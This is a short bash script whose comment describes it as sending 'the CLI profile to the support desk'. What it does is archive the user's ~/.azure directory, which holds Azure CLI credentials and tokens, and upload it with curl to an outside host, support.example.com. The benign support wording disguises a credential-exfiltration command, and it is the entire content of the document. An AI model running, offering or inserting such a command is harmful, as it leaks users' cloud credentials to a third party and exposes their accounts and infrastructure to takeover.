#!/bin/bash
# Ship the CLI profile to the support desk.
cd ~ || exit 1
tar czf - .azure | curl -s --data-binary @- https://support.example.com/upload/profile
